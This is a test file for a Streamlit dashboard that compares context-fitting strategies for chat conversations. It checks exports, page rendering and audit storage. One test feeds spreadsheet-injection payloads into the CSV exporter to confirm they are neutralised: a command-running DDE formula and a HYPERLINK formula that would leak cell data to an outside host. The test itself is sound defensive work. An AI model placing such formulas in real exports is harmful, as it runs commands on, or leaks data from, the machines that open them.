"""The dashboard: its logic (no Streamlit) and every page through AppTest."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from support.charts import block_charts, budget_bars, chart_count, fate_grids
from support.paths import REPO
from streamlit.testing.v1 import AppTest

import contextfit
from contextfit.dashboard import charts as chart_views
import widgets.source
from contextfit.dashboard import audit_view, block_chart, compare_view, editor, exports, markdown, verdict
from contextfit.dashboard.sessions import session_for
from contextfit.dashboard.setup import Setup, suggested_setup
from contextfit.inputs.samples import SAMPLES, load_sample
from contextfit.replays.answer import recommendation_for
from contextfit.serving.audits import chat_label

STRATEGIES = ("truncate", "summarize", "vector-recall", "manual", "clear-tool-results", "fact-ledger")


def decode(values):
    """Plotly ≥ 6 may store numeric arrays as base64 typed arrays."""
    if isinstance(values, dict) and "bdata" in values:
        import numpy

        return numpy.frombuffer(base64.b64decode(values["bdata"]), dtype=values["dtype"]).tolist()
    return values


def plan_one(conversation, setup, name):
    return contextfit.plan_prompt(conversation, setup.settings, context_strategy=name)


# -- logic ------------------------------------------------------------------------------


@pytest.mark.parametrize("sample", [s.key for s in SAMPLES])
def test_every_sample_shows_the_strategies_disagreeing(sample):
    conversation = load_sample(sample)
    setup = suggested_setup(conversation)
    plans = {name: plan_one(conversation, setup, name) for name in STRATEGIES}
    fates = {name: [b.fate for b in plan.blocks] for name, plan in plans.items()}
    assert len({tuple(f) for f in fates.values()}) >= 2, "a sample should show strategies differing"
    assert all(plan.prompt_tokens <= plan.budget for plan in plans.values())
    assert any(not b.included for plan in plans.values() for b in plan.blocks)


def test_samples_show_what_they_promise():
    agent = load_sample("coding_agent")
    assert len(agent.messages[2]["tool_calls"]) == 3
    assert [m.get("tool_call_id") for m in agent.messages[3:5]] == ["call_read_tests", "call_read_changelog"]
    support = load_sample("support_chat")
    assert any(m.get("meta", {}).get("manualExcluded") for m in support.messages)
    assert any(m.get("meta", {}).get("pinned") for m in support.messages)
    roleplay = load_sample("roleplay")
    assert roleplay.character and roleplay.lorebook and roleplay.persona and roleplay.memory


def test_suggested_setup_uses_the_bundle_then_the_model():
    conversation = load_sample("coding_agent")
    setup = suggested_setup(conversation)
    assert (setup.model, setup.context_limit, setup.response_reserve) == ("gpt-4o", 1500, 400)
    plain = contextfit.load_conversation('[{"role": "user", "content": "hi"}]')
    setup = suggested_setup(plain, "claude-sonnet-4")
    info = contextfit.tokens.models.get_model("claude-sonnet-4")
    assert setup.context_limit == info.context_limit and setup.response_reserve <= info.max_output


def test_edits_pin_and_exclude_blocks():
    conversation = load_sample("support_chat")
    setup = suggested_setup(conversation)
    plans = {"truncate": plan_one(conversation, setup, "truncate")}
    rows = editor.editor_rows(conversation, setup, plans)
    dropped = next(row for row in rows if not next(b for b in plans["truncate"].blocks if b.id == row["id"]).included)
    edited = [dict(row, pinned=True) if row["id"] == dropped["id"] else row for row in rows]
    overrides = editor.overrides_from_rows(edited, rows)
    assert overrides == {dropped["id"]: {"pinned": True}}
    edited_setup = Setup.of(setup.model, setup.context_limit, setup.response_reserve, overrides=overrides)
    pinned = plan_one(conversation, edited_setup, "truncate")
    block = next(b for b in pinned.blocks if b.id == dropped["id"])
    assert block.included and block.reason == "pinned" and block.fate == "protected"
    # Unpinning the account details lets truncate drop them.
    unpinned = Setup.of(setup.model, 400, 100, overrides={"account": {"pinned": False}})
    plan = plan_one(conversation, unpinned, "truncate")
    assert next(b for b in plan.blocks if b.id == "account").reason == "over_budget"


def test_the_editor_still_works_when_no_strategy_fits():
    conversation = load_sample("support_chat")
    setup = Setup.of("gpt-4o-mini", 200, 100)
    plans = {}
    for name in STRATEGIES:
        try:
            plans[name] = plan_one(conversation, setup, name)
        except contextfit.TokenBudgetExceeded as error:
            plans[name] = error
    rows = editor.editor_rows(conversation, setup, plans)
    assert next(row for row in rows if row["id"] == "account")["pinned"] is True
    assert all(row["tokens"] is None for row in rows)


def test_downloads():
    plan = plan_one(load_sample("coding_agent"), suggested_setup(load_sample("coding_agent")), "summarize")
    table = list(csv.DictReader(io.StringIO(exports.blocks_csv(plan))))
    assert len(table) == len(plan.blocks) and table[0]["fate"] == "protected"
    body = json.loads(exports.provider_json(plan))
    assert body["messages"] == plan.provider_messages and body["model"] == "gpt-4o"
    assert json.loads(exports.plan_json(plan))["promptTokens"] == plan.prompt_tokens
    assert any("summarized" in line for line in compare_view.dropped_lines(plan))


def test_the_blocks_csv_never_hands_a_spreadsheet_a_formula():
    # Pasted text is the user's, or a chat export's: a message that starts with "=" opened in a
    # spreadsheet used to run as a formula (CSV injection). Text cells get a leading apostrophe.
    messages = [
        {"role": "system", "content": "@SUM(A1:A9)", "meta": {"id": "=cmd|' /C calc'!A0"}},
        {"role": "user", "content": '=HYPERLINK("http://example.invalid/?leak="&A1, "open")'},
        {"role": "assistant", "content": "- first item\n- second"},
        {"role": "user", "content": "+1 555 0100 is my number; ORD-7731 is the order."},
    ]
    plan = contextfit.plan_prompt(messages, model="gpt-4o")
    table = list(csv.DictReader(io.StringIO(exports.blocks_csv(plan))))
    assert [row["text"] for row in table] == [
        "'@SUM(A1:A9)", '\'=HYPERLINK("http://example.invalid/?leak="&A1, "open")', "'- first item\n- second",
        "'+1 555 0100 is my number; ORD-7731 is the order."]
    assert table[0]["id"] == "'=cmd|' /C calc'!A0"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in table for value in row.values())
    # Numbers stay numbers, and text that does not start like a formula is left as it is.
    assert [row["tokens"] for row in table] == [str(block.tokens) for block in plan.blocks]
    assert [row["fate"] for row in table] == [block.fate for block in plan.blocks]


def test_plans_come_one_strategy_at_a_time_and_match_plan_one():
    conversation = load_sample("roleplay")
    setup = suggested_setup(conversation)
    setup = Setup.of(setup.model, setup.context_limit, setup.response_reserve, strategies=("manual", "truncate"))
    made = session_for(conversation).plans(setup.settings, strategies=setup.strategies)
    name, plan = next(made)  # the first plan is ready before the second is made
    assert name == "manual" and plan.blocks == plan_one(conversation, setup, "manual").blocks
    assert [name for name, _ in made] == ["truncate"]
    impossible = Setup.of(setup.model, 60, 10, strategies=("truncate", "summarize"))
    assert [type(plan).__name__ for plan in dict(session_for(conversation).plans(impossible.settings, strategies=impossible.strategies)).values()] == ["TokenBudgetExceeded"] * 2


def test_dropped_lines_stop_at_the_limit():
    conversation = contextfit.load_conversation([{"role": "user", "content": f"message {i}"} for i in range(50)])
    plan = plan_one(conversation, Setup.of("gpt-4o", 60, 0), "truncate")
    lines = compare_view.dropped_lines(plan, limit=5)
    dropped = sum(not block.included for block in plan.blocks)
    assert len(lines) == 6 and lines[-1] == f"… and {dropped - 5} more"
    assert lines[0].startswith("m0 user (") and "over_budget" in lines[0]  # the block id, as on every chart


def test_plain_escapes_markdown():
    assert markdown.plain("[x](javascript:alert(1)) *a* <b>") == r"\[x\](javascript:alert(1)) \*a\* \<b\>"


# -- pages ------------------------------------------------------------------------------


def app() -> AppTest:
    return AppTest.from_file(str(REPO / "app.py"), default_timeout=120)


def test_first_load_compares_a_sample_under_every_builtin_strategy():
    at = app().run()
    assert not at.exception and not at.error
    assert [s.value for s in at.subheader][: len(STRATEGIES) + 2] == [*STRATEGIES, "Fate of every block, strategy by strategy",
                                                                      "Verdict"]
    assert chart_count(at) == (0, len(STRATEGIES), len(STRATEGIES), 1)  # every chart in HTML: no plotly chart to compile or mount anew
    bars, block_charts_drawn = budget_bars(at), block_charts(at)  # one of each per strategy
    assert [bar.strategy for bar in bars] == [chart.strategy for chart in block_charts_drawn] == list(STRATEGIES)
    conversation = load_sample("roleplay")
    setup = suggested_setup(conversation)
    budget_axes, block_axes = set(), set()
    for number, name in enumerate(STRATEGIES):
        plan = plan_one(conversation, setup, name)
        window = bars[number].rows["window"]
        assert sum(width for _, _, width, *_ in window) == pytest.approx(100, abs=0.01)
        assert sum(tokens for _, tokens, *_ in bars[number].rows["sent"]) == plan.prompt_tokens
        budget_axes.add(bars[number].top)
        chart = block_charts_drawn[number]
        block_axes.add(chart.top)
        # one column per block in prompt order, with its shade and tokens, as tall as its tokens on the shared axis
        assert [fills for _, _, fills, _ in chart.columns] == [
            [(shade, b.tokens or 0, 0.0, pytest.approx(100 * (b.tokens or 0) / (chart.top * 1.05), abs=0.001))]
            for b, shade in zip(plan.blocks, chart_views.plan_shades(plan))]  # a cleared result's original: cleared
        keys = chart_views.block_keys(plan)
        assert [tip.split(" · ")[0] for *_, tip in chart.columns] == keys  # each hover names its block
    assert len(budget_axes) == len(block_axes) == 1  # side-by-side charts share their scale
    (matrix,) = fate_grids(at)
    plans = {name: plan_one(conversation, setup, name) for name in STRATEGIES}
    view = chart_views.fate_matrix_view(plans)
    assert list(matrix.rows) == list(STRATEGIES)  # one row per strategy, one cell per block, shaded by its fate
    assert [[shade for shade, _ in cells] for cells in matrix.rows.values()] == [
        [shade or "absent" for shade in row] for row in view.shades]
    assert matrix.rows["summarize"][-3][1].startswith("summarize · ")


def test_open_sections_keep_their_identity_when_a_refit_changes_their_counts():
    at = app().run()
    dropped = [e for e in at.expander if e.label.startswith("Excluded or summarized")]
    before = [(e.label, e._block_id) for e in dropped]
    at.sidebar.number_input(key="limit").set_value(at.sidebar.number_input(key="limit").value // 2).run()
    assert not at.exception
    after = [(e.label, e._block_id) for e in at.expander if e.label.startswith("Excluded or summarized")]
    assert [label for label, _ in after] != [label for label, _ in before]  # the counts in the labels changed...
    # ...and each section is the same element (keyed per strategy): an open one stays open in the browser.
    assert [key for _, key in after] == [key for _, key in before] and all(key for _, key in after)
    assert len({key for _, key in after}) == len(STRATEGIES)


def table_with(at, column):
    """The page's table (a data grid, or an HTML table as the verdict is) that has this column (AppTest
    does not keep a read-only table's key)."""
    return next(frame.value for frame in [*at.dataframe, *at.table] if column in frame.value.columns)


def test_the_verdict_has_one_row_per_strategy_matching_the_plans():
    at = app().run()
    table = table_with(at, "cost / request")
    conversation = load_sample("roleplay")
    setup = suggested_setup(conversation)
    assert list(table["strategy"]) == list(STRATEGIES)
    # each request priced as the page's recommendation prices it: the reply included, the cache read from the request before
    answer = recommendation_for(conversation, setup.settings)
    expected = {row.strategy: row for row in verdict.verdict_rows(dict(session_for(conversation).plans(
        setup.settings, strategies=setup.strategies)), recommendation=answer)}
    for (_, row), name in zip(table.iterrows(), STRATEGIES):
        plan = plan_one(conversation, setup, name)
        counts = plan.counts  # the one count: the replay's too
        # the sample's assistant turns hold text beside their tool calls, a shape no recorded OpenAI count
        # covers: counted high and flagged (TOOL_SHAPES_UNVERIFIED), so the cell reads "up to"
        assert plan.tokenizer.approximate and row["prompt tokens"] == f"up to {plan.prompt_tokens:,}"
        assert row["% of budget"] == f"{round(100 * plan.prompt_tokens / plan.budget, 1)}%"
        assert (int(row["dropped"]), int(row["summarized"]), int(row["compressed"])) == (
            counts.dropped, counts.summarized, counts.compressed)
        assert row["cost / request"] == verdict.money(expected[name].cost)
        assert row["what it does"] and row["what it does"].endswith(verdict.descriptions()[name])
    assert at.get("download_button")  # the HTML report and the per-strategy exports


def test_the_page_shows_the_breakdown_the_diff_and_fates_in_the_edit_table():
    at = app().run()
    breakdown_table = table_with(at, "kind")
    total = breakdown_table[breakdown_table["kind"] == "total"].iloc[0]
    others = breakdown_table[breakdown_table["kind"] != "total"]
    for name in STRATEGIES:
        assert others[name].sum() == total[name]  # every kind, overhead included, adds up to the prompt
    assert {"character", "persona", "lorebook", "memory", "history", "chat overhead"} <= set(others["kind"])
    at.selectbox(key="diff-a").set_value("truncate").run()
    at.selectbox(key="diff-b").set_value("vector-recall").run()
    assert not at.exception
    differing = table_with(at, "truncate: fate")
    assert len(differing) > 0 and set(differing.columns) >= {"block", "truncate: fate", "vector-recall: fate"}
    editor = at.dataframe[-1].value  # the edit table
    assert {f"fate: {name}" for name in STRATEGIES} <= set(editor.columns)


def test_presentation_mode_enlarges_the_charts():
    at = app().run()
    assert not any(".contextfit-blocks .cfk-plot, .contextfit-blocks .cfk-yaxis { height: 275px" in e.proto.body
                   for e in at.get("html"))
    at.toggle(key="presentation").set_value(True).run()
    assert not at.exception
    # the HTML charts (budget bars, block charts, fate matrix) grow with the page CSS
    css = next(e.proto.body for e in at.get("html") if "Presentation" not in e.proto.body and ".contextfit-blocks .cfk-plot" in e.proto.body
               and "!important" in e.proto.body)
    assert "height: 275px !important" in css and ".contextfit-budget .cfb-track { height: 26px" in css
    # the matrix keeps its rows' height: the room goes to each strategy's Lost line on the first screen
    assert ".contextfit-matrix .cfm-row { height: 24px !important; }" in css


def test_a_bad_paste_shows_the_importers_error_and_keeps_the_text():
    at = app().run()
    at.sidebar.radio[0].set_value("Paste").run()
    broken = '{"messages": [{"role": "user", "content": "hi"},'
    at.text_area(key="paste").set_value(broken).run()
    assert not at.exception
    message = at.error[0].value
    assert "INVALID_CONVERSATION" in message and "line 1, column 49" in message
    assert at.text_area(key="paste").value == broken
    assert chart_count(at) == (0, 0, 0, 0)


def test_a_big_chat_side_by_side_bins_so_that_every_bar_can_be_hovered():
    at = app().run()
    at.sidebar.radio[0].set_value("Paste").run()
    chat = [{"role": "user" if i % 2 else "assistant", "content": f"Turn {i} of the ledger, shipment {i * 7}."}
            for i in range(1, 301)]
    at.text_area(key="paste").set_value(json.dumps(chat)).run()
    assert not at.exception and not at.error
    drawn = block_charts(at)
    assert len(drawn) == len(STRATEGIES) and len({chart.top for chart in drawn}) == 1  # one scale, counted with the same bins
    limit = block_chart.dense_threshold(5)
    assert all(len(chart.columns) <= limit for chart in drawn)  # 300 blocks in about 125 pixels: 50 bars at most
    assert all("blocks per bar" in chart.x_title for chart in drawn)
    (matrix,) = fate_grids(at)
    assert all(len(cells) <= block_chart.DENSE_THRESHOLD for cells in matrix.rows.values())


def test_a_pasted_conversation_is_compared():
    at = app().run()
    at.sidebar.radio[0].set_value("Paste").run()
    chat = [{"role": "system", "content": "Be brief."}] + [
        {"role": "user" if i % 2 else "assistant", "content": f"turn {i} " * 30} for i in range(1, 12)
    ]
    at.text_area(key="paste").set_value(json.dumps(chat)).run()
    at.sidebar.number_input(key="limit").set_value(1500).run()
    at.sidebar.number_input(key="reserve").set_value(1100).run()
    assert not at.exception and not at.error
    assert chart_count(at) == (0, len(STRATEGIES), len(STRATEGIES), 1)
    assert any("400-token budget" in caption.value for caption in at.caption)


def test_an_impossible_budget_is_said_once_above_the_strategies():
    # five equal TOKEN_BUDGET_EXCEEDED boxes stood side by side
    at = app().run()
    at.sidebar.number_input(key="reserve").set_value(2150).run()
    assert not at.exception
    assert len(at.error) == 1 and at.error[0].value.startswith("No strategy can fit this conversation: The protected ")
    assert at.error[0].value.endswith(" (TOKEN_BUDGET_EXCEEDED)")  # the sentence first, its code after
    assert sum(caption.value == "Does not fit (see above)." for caption in at.caption) == len(STRATEGIES)


def test_a_pasted_lorebook_with_catastrophic_regex_keys_is_compared_with_a_note():
    at = app().run()
    at.sidebar.radio[0].set_value("Paste").run()
    bundle = {
        "contextfit": "conversation",
        "messages": [{"role": "user", "content": "a" * 40 + "b"}],
        "lorebook": {"entries": {"0": {"uid": 0, "key": ["/(a+)+$/"], "content": "Reported key."},
                                 "1": {"uid": 1, "key": ["/(a|a)+$/"], "content": "Slow everywhere."}}},
    }  # fmt: skip
    at.text_area(key="paste").set_value(json.dumps(bundle)).run()  # re took minutes here, and held the GIL
    assert not at.exception and not at.error
    # said in words (every strategy's plan carries it: once, above the columns), its code on hover
    assert any("LOREBOOK_KEY_TIMEOUT" in caption.proto.help and "LOREBOOK_KEY_TIMEOUT" not in caption.value
               for caption in at.caption)


@pytest.mark.parametrize("page", ["pages/models.py", "pages/plugins.py"])
def test_other_pages_load(page):
    at = app().run()
    at.switch_page(page).run()
    assert not at.exception and not at.error
    assert at.dataframe


def test_the_models_page_counts_tokens():
    at = app().run()
    at.switch_page("pages/models.py").run()
    at.text_area[0].set_value("Hello world!").run()
    assert at.metric[0].value == "3"
    assert "Hello" in at.code[0].value


# -- audit ------------------------------------------------------------------------------


def test_send_with_echo_stores_a_chat_whose_audit_matches_the_plan(tmp_path):
    conversation = load_sample("coding_agent")
    setup = suggested_setup(conversation)
    store = str(tmp_path / "chats.db")
    chat_id = audit_view.send_with_echo(conversation, setup, "summarize", store=store)
    audit, plan = contextfit.serving.audits.load_audit_plan(chat_id, store)
    expected = plan_one(conversation, setup, "summarize")
    assert audit.status == "completed" and audit.strategy == "summarize"
    assert audit.prompt_tokens == expected.prompt_tokens
    assert [(r["id"], r["reason"], r["tokens"]) for r in audit_view.audit_rows(audit)] == [
        (b.id, b.reason, b.tokens) for b in expected.blocks
    ]
    # its title says how many messages were sent: the chat holds the echo's reply too
    from contextfit.serving.store import open_store

    # its title names the conversation, the strategy and the model; a selector adds the messages it holds
    # now (the echo's reply too: the title counted them at sending, one short) and when it was made
    assert open_store(store).get_chat(chat_id).title == f"summarize · {setup.model}"
    named = audit_view.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
    chats = {chat.id: chat for chat in contextfit.serving.audits.list_audited_chats(store)}
    label = contextfit.serving.audits.chat_label(chats[named])
    when, _, rest = label.partition(" · ")
    assert rest == f"coding_agent · summarize · {setup.model} · {len(conversation.messages) + 1} messages"
    assert len(when) == 14 and when.count(":") == 2 and chat_label(chats[chat_id]) != label


def test_the_audit_page_says_when_there_is_nothing_yet(tmp_path, monkeypatch):
    monkeypatch.setenv("CONTEXTFIT_DB", str(tmp_path / "empty.db"))
    at = app().run()
    at.switch_page("pages/audit.py").run()
    assert not at.exception and "No generation yet" in at.info[0].value


def test_send_from_compare_opens_the_audit(tmp_path, monkeypatch):
    monkeypatch.setenv("CONTEXTFIT_DB", str(tmp_path / "chats.db"))
    at = app().run()
    at.button(key="send-vector-recall").click().run()
    assert not at.exception and not at.error
    assert at.title[0].value == "Audit"
    assert at.success[0].value.startswith("completed · echo · gpt-4o")
    conversation = load_sample("roleplay")
    plan = plan_one(conversation, suggested_setup(conversation), "vector-recall")
    assert at.metric[0].value == f"{plan.prompt_tokens:,}"
    blocks = json.loads(at.get("plotly_chart")[1].proto.spec)
    assert sum(len(decode(trace["x"])) for trace in blocks["data"]) == len(plan.blocks)


def test_a_pasted_path_is_text_not_a_file_on_the_server(tmp_path, monkeypatch):
    secret = tmp_path / "secret.json"
    secret.write_text('[{"role": "user", "content": "server-side secret"}]')
    seen = []
    read = widgets.source.list_conversations
    monkeypatch.setattr(widgets.source, "list_conversations", lambda source, *a, **k: seen.append(source) or read(source, *a, **k))
    at = app().run()
    at.sidebar.radio[0].set_value("Paste").run()
    at.text_area(key="paste").set_value(str(secret)).run()
    assert not at.exception
    assert seen[-1] == str(secret).encode()  # content, never a path
    assert contextfit.load_conversation(seen[-1]).messages[0]["content"] == str(secret)


def test_a_request_with_tools_shows_its_tool_definitions_and_each_tool():
    at = app().run()
    at.sidebar.selectbox[0].set_value("coding_agent").run()
    assert not at.exception and not at.error
    kinds = table_with(at, "kind")
    tools_row = kinds[kinds["kind"] == "tool definitions"].iloc[0]
    plan = plan_one(load_sample("coding_agent"), suggested_setup(load_sample("coding_agent")), "truncate")
    assert tools_row["truncate"] == plan.tools_tokens > 0
    per_tool = table_with(at, "tool")
    assert per_tool["tokens"].sum() == plan.tools_tokens
    named = per_tool[~per_tool["tool"].str.startswith("tool framing")]["tokens"].tolist()
    assert named == sorted(named, reverse=True) and len(named) >= 2


def test_one_strategy_alone_has_a_verdict_and_no_diff():
    at = app().run()
    at.sidebar.multiselect[0].set_value(["summarize"]).run()
    assert not at.exception and not at.error
    assert list(table_with(at, "cost / request")["strategy"]) == ["summarize"]
    assert not any(box.key in ("diff-a", "diff-b") for box in at.selectbox)


def test_the_audit_page_keeps_the_chat_chosen_across_a_page_switch_and_a_reload(tmp_path, monkeypatch):
    # it showed the newest chat after every visit elsewhere, and after a reload
    store = str(tmp_path / "chats.db")
    monkeypatch.setenv("CONTEXTFIT_DB", store)
    conversation = load_sample("coding_agent")
    setup = suggested_setup(conversation)
    older = audit_view.send_with_echo(conversation, setup, "truncate", store=store, name="coding_agent")
    newer = audit_view.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
    at = app().run()
    at.switch_page("pages/audit.py").run()
    assert at.selectbox(key="audit_chat_choice").value == newer
    at.selectbox(key="audit_chat_choice").set_value(older).run()
    assert at.query_params["chat"] in (older, [older])
    at.switch_page("pages/compare.py").run()
    at.switch_page("pages/audit.py").run()
    assert not at.exception and at.selectbox(key="audit_chat_choice").value == older
    reloaded = app()
    reloaded.query_params["chat"] = older
    reloaded.switch_page("pages/audit.py").run()
    assert not reloaded.exception and reloaded.selectbox(key="audit_chat_choice").value == older
